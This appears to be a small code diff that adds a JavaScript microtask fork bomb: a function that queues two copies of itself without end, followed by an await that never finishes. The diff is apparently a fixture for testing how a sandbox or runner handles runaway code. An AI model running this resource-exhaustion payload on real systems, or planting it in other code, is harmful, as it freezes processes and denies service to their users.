@@ -1,0 +1,3 @@
+const split = () => { Promise.resolve().then(split); Promise.resolve().then(split); };
+split();
+await new Promise(() => {});
